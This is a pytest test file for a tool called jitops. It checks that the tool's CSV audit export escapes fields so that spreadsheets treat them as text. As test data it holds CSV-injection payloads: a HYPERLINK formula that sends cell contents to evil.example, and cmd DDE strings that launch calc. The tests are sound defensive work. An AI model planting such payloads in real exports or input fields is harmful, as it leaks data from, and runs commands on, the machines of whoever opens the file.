"""``jitops audit --format csv``: RFC 4180 rows a spreadsheet reads as text, never as code."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from jitops import evidence
from jitops.commands.audit import AuditQuery, audit, audit_listing
from jitops.errors import UsageError
from jitops.report.csv import ACTION_COLUMNS, AUDIT_COLUMNS, action_csv, audit_csv
from tests.commands.test_audit import approval
from tests.gitrepo import commit_all, land_action, make_access_repo, write_request


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_grant_with_the_documented_columns(tmp_path: Path) -> None:
    root = make_access_repo(tmp_path / "access")
    path = write_request(root, "ok-1", duration="4h", ticket="INC-7")
    merged = commit_all(root, "grant (#7)", date="2026-11-23T09:00:00Z")
    evidence.record(root, merged, approval("ok-1", path.relative_to(root).as_posix()))
    write_request(
        root, "sneaky-1", justification="'Fix, quickly: a \"quoted\" reason, with commas'"
    )
    commit_all(root, "no review", date="2026-11-23T10:00:00Z")
    text = audit_csv(audit(root))
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    header = text.split("\r\n", 1)[0]
    assert header == ",".join(name for name, _ in AUDIT_COLUMNS)
    ok, sneaky = rows(text)
    assert ok["id"] == "ok-1" and ok["requester"] == "alice"
    assert (ok["from"], ok["until"]) == ("2026-11-23T09:00:00Z", "2026-11-23T13:00:00Z")
    assert (ok["approvers"], ok["evidence"], ok["pull_request"]) == ("bob", "approved", "7")
    assert ok["policy_commit"] == "b" * 40 and ok["ticket"] == "INC-7" and ok["problem"] == ""
    assert sneaky["justification"] == 'Fix, quickly: a "quoted" reason, with commas'
    assert sneaky["evidence"] == "none" and "no approval evidence" in sneaky["problem"]


@pytest.mark.attack(8, "a justification that runs as a formula in the auditor's spreadsheet")
@pytest.mark.parametrize(
    "written",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3 and then some more words",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_what_people_wrote_never_runs_as_a_formula(tmp_path: Path, written: str) -> None:
    """A requester writes the justification an auditor's export will show; a spreadsheet
    runs a cell starting with = + - @ as a formula (CSV injection). It is written as text."""
    root = make_access_repo(tmp_path / "access")
    quoted = written.replace("'", "''")
    write_request(root, "x-1", justification=f"'{quoted} — investigating INC-1'")
    commit_all(root, "grant", date="2026-11-23T09:00:00Z")
    [row] = rows(audit_csv(audit(root)))
    assert row["justification"].startswith("'") and row["justification"][1:].startswith(written)
    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_the_readme_documents_every_column() -> None:
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    for name, meaning in (*AUDIT_COLUMNS, *ACTION_COLUMNS):
        assert f"| `{name}` | {meaning} |" in readme


@pytest.mark.attack(8, "an action's error that runs as a formula in the auditor's spreadsheet")
def test_with_actions_one_row_per_action_request_none_a_formula(tmp_path: Path) -> None:
    """``--actions``: one row per action request with what became of it. The error is the
    target's text, and a requester's SQL can put words in it: it is written as text."""
    root = make_access_repo(tmp_path / "access")
    write_request(root, "grant-1", duration="1h")
    commit_all(root, "a grant", date="2026-11-23T08:00:00Z")
    land_action(
        root, "fix-1", pull_request=8, state="failed", identity="jitops_actions",
        rows_affected=0, digest="ab" * 32, error='=HYPERLINK("http://evil.example","x")',
    )  # fmt: skip
    land_action(root, "fix-2", requester="carol", date="2026-11-24T09:00:00Z")  # not performed
    report = audit_listing(root, "HEAD", AuditQuery.of(only_actions=True), False, None)
    text = action_csv(report)
    assert text.split("\r\n", 1)[0] == ",".join(name for name, _ in ACTION_COLUMNS)
    failed, waiting = rows(text)
    assert (failed["id"], failed["requester"], failed["action"]) == (
        "fix-1",
        "alice",
        "fix-order-state",
    )
    assert (failed["approvers"], failed["pull_request"], failed["state"]) == ("bob", "8", "failed")
    assert failed["at"] == "2026-11-23T09:00:00Z" and failed["digest"] == "ab" * 32
    assert failed["identity"] == "jitops_actions" and failed["rows_affected"] == "0"
    assert failed["error"].startswith("'=HYPERLINK(")
    assert (waiting["id"], waiting["state"], waiting["at"]) == ("fix-2", "pending", "")
    assert all(
        not v.startswith(("=", "+", "-", "@")) for row in (failed, waiting) for v in row.values()
    )
    # the filters narrow them: carol's alone, and a role asks for grants only
    carol = audit_listing(
        root, "HEAD", AuditQuery.of(users=["carol"], only_actions=True), False, None
    )
    assert [a.request_id for a in carol.actions] == ["fix-2"]
    by_role = audit_listing(root, "HEAD", AuditQuery.of(roles=["readonly"]), False, None)
    assert by_role.actions == () and len(by_role.records) == 1
    with pytest.raises(UsageError, match="--role asks about grants"):  # and with --actions: no
        AuditQuery.of(roles=["readonly"], only_actions=True)
